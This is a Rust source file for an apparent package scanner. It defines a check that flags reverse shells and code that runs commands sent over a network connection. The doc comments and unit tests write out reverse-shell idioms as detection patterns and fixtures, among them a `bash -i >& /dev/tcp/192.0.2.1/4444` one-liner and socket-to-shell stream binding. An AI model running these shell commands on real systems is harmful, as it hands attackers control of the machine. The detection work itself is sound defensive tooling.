//! Refuses code that gives another machine a shell on this one.

use Severity::{High, Low, Medium};
use spip_core::{
    Act, Check, Contents, Context, Deed, Finding, Package, Severity, Stop, Taints, Trigger,
};

use crate::contents::{self, Command, Menace, Suspicions, commands, is_shell, weigh};

describe! {
    /// ## What it asks
    ///
    /// Does a file of the package open a connection, bind its streams to it and start a shell? Does it
    /// start a command that does the same: `bash -i >& /dev/tcp/…`, `nc -e`, `socat exec:…`, PowerShell's
    /// `TCPClient`? Does it run commands that it reads from a low-level connection?
    ///
    /// ## Why it matters
    ///
    /// A shell for somebody else is the end of every other protection.
    ///
    /// ## What to do
    ///
    /// Do not install it. If it ran before, treat the machine as taken over.
    pub(super) struct ReverseShell {
        id: "reverse-shell",
        summary: "code gives another machine a shell",
        worst: High,
        needs: Contents,
    }
}

const GIVES: &str = "gives another machine a shell";
const OBEYS: &str = "runs commands that another machine sends";

impl Check for ReverseShell {
    fn run(
        &self,
        package: &Package,
        cx: &Context<'_>,
        found: &mut Vec<Finding>,
    ) -> Result<(), Stop> {
        let contents = contents::read(package, cx)?;
        let mut suspicions = Suspicions::default();
        for command in commands(&contents) {
            suspicions.command(told(&command), GIVES, &command);
            suspicions.command(bound(&contents, &command), GIVES, &command);
            suspicions.command(obeys(&contents, &command), OBEYS, &command);
        }
        suspicions.report(
            "do not install it; where it ran, treat the machine as taken over",
            found,
        );
        Ok(())
    }
}

/// A command line that does it all by itself.
fn told(command: &Command<'_>) -> Option<Severity> {
    if !command.menaces().contains(&Menace::ReverseShell) {
        return None;
    }
    // Tools for testers fill in the address that they are given.
    let on_call = if command.is_known() { High } else { Medium };
    weigh(command.trigger, High, on_call)
}

/// The acts of the same file that open connections.
fn connections<'c>(contents: &'c Contents, command: &Command<'c>) -> impl Iterator<Item = &'c Act> {
    let member = command.site.member.as_str();
    let is_never = command.trigger == Trigger::Never;
    contents
        .acts_of(Deed::Connect)
        .filter(move |act| act.site.member == member && (act.trigger == Trigger::Never) == is_never)
}

/// A shell whose streams are bound to a connection of the same file.
fn bound(contents: &Contents, command: &Command<'_>) -> Option<Severity> {
    connections(contents, command).next()?;
    let member = command.site.member.as_str();
    let is_interactive = is_shell_alone(command);
    let redirects = contents
        .acts_of(Deed::Redirect)
        .filter(|act| act.site.member == member)
        .count();
    match (is_interactive, redirects) {
        (true, 1..) => weigh(command.trigger, High, High),
        // Beside a connection, not bound to it: a program that offers its user a shell.
        (true, 0) => {
            let is_fed = command.taints.any(Taints::DOWNLOADED);
            let is_bound = is_fed || command.callee.starts_with("pty.spawn");
            weigh(command.trigger, High, if is_bound { Medium } else { Low })
        }
        // What is started is not known, but nobody binds three streams to a connection for fun.
        (false, 2..) if command.program().is_none() => weigh(command.trigger, High, Medium),
        _ => None,
    }
}

/// A shell that is told nothing, so that it listens.
fn is_shell_alone(command: &Command<'_>) -> bool {
    let has_shell = command.steps.iter().any(|step| {
        let says_nothing = step.arguments.iter().all(|it| {
            matches!(
                it.as_str(),
                "-i" | "-l"
                    | "-il"
                    | "-li"
                    | "--login"
                    | "-p"
                    | "/q"
                    | "/k"
                    | "-nop"
                    | "-NoProfile"
                    | "sh"
                    | "bash"
            ) || it.contains(contents::HOLE)
                || it.starts_with('/')
        });
        is_shell(&step.program) && says_nothing
    });
    has_shell || command.callee.starts_with("pty.spawn")
}

/// Data from a connection of the same file that becomes a command.
fn obeys(contents: &Contents, command: &Command<'_>) -> Option<Severity> {
    let is_received =
        command.taints.any(Taints::DOWNLOADED) && !command.taints.any(Taints::DROPPED);
    let is_open = command.program().is_none_or(is_shell);
    if !is_received || !is_open {
        return None;
    }
    let connection = connections(contents, command).next()?;
    let is_theirs = contents::addresses(connection)
        .iter()
        .any(contents::Address::is_foreign);
    if command.trigger == Trigger::Call && command.taints.any(Taints::PARAMETER) && !is_theirs {
        return None;
    }
    weigh(command.trigger, High, Medium)
}

#[cfg(test)]
mod tests {
    use spip_core::{Deed, Taints, Trigger};

    use super::ReverseShell;
    use crate::testing::{ActBuilder, World, act, assert_shows, demo};

    fn connecting(trigger: Trigger) -> World {
        let connect = act(Deed::Connect, "socket.socket().connect").texts(&["192.0.2.1 4444"]);
        demo().acting(connect.when(trigger))
    }

    fn spawn(text: &str) -> ActBuilder {
        act(Deed::Spawn, "subprocess.call").texts(&[text])
    }

    #[test]
    fn flags_a_shell_bound_to_a_connection_even_on_use() {
        for trigger in [Trigger::Import, Trigger::Call] {
            let dup = act(Deed::Redirect, "os.dup2")
                .texts(&["\u{fffc}", "0"])
                .when(trigger);
            let world = connecting(trigger)
                .acting(dup)
                .acting(spawn("/bin/sh -i").when(trigger));
            let expected = format!("high: gives another machine a shell, {}", trigger.words());
            assert_shows(&ReverseShell, world, &expected);
        }
    }

    #[test]
    fn flags_a_shell_handed_the_connection_as_its_streams() {
        let world = connecting(Trigger::Import).acting(spawn("/bin/bash -i"));
        assert_shows(
            &ReverseShell,
            world,
            "high: gives another machine a shell, when it is imported",
        );
        let pty = act(Deed::Spawn, "pty.spawn")
            .texts(&["\u{fffc}"])
            .when(Trigger::Call);
        let world = connecting(Trigger::Call).acting(pty);
        assert_shows(
            &ReverseShell,
            world,
            "medium: gives another machine a shell, when it is used",
        );
    }

    #[test]
    fn flags_one_liners() {
        let line = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1";
        let world = demo().acting(spawn(line).when(Trigger::Call));
        assert_shows(
            &ReverseShell,
            world,
            "high: gives another machine a shell, when it is used",
        );
        let line = "bash -i >& /dev/tcp/\u{fffc}/\u{fffc} 0>&1";
        let world = demo().acting(spawn(line).when(Trigger::Call));
        assert_shows(
            &ReverseShell,
            world,
            "medium: gives another machine a shell, when it is used",
        );
    }

    #[test]
    fn flags_commands_from_a_connection() {
        let world = connecting(Trigger::Call).acting(
            spawn("\u{fffc}")
                .tainted(Taints::DOWNLOADED)
                .when(Trigger::Call),
        );
        assert_shows(
            &ReverseShell,
            world,
            "medium: runs commands that another machine sends, when it is used",
        );
    }

    #[test]
    fn accepts_supervisors_terminals_and_clients() {
        let daemon = demo()
            .acting(
                act(Deed::Redirect, "os.dup2")
                    .texts(&["\u{fffc}", "0"])
                    .when(Trigger::Call),
            )
            .acting(spawn("\u{fffc}").when(Trigger::Call));
        assert_shows(&ReverseShell, daemon, "complete");
        let client =
            connecting(Trigger::Call).acting(spawn("sh -c 'ulimit -n'").when(Trigger::Call));
        assert_shows(&ReverseShell, client, "complete");
        assert_shows(
            &ReverseShell,
            demo().acting(spawn("/bin/bash -i")),
            "complete",
        );
    }

    #[test]
    fn leaves_a_gap_when_the_files_cannot_be_read() {
        assert_shows(&ReverseShell, demo().offline(), "incomplete: offline");
    }
}
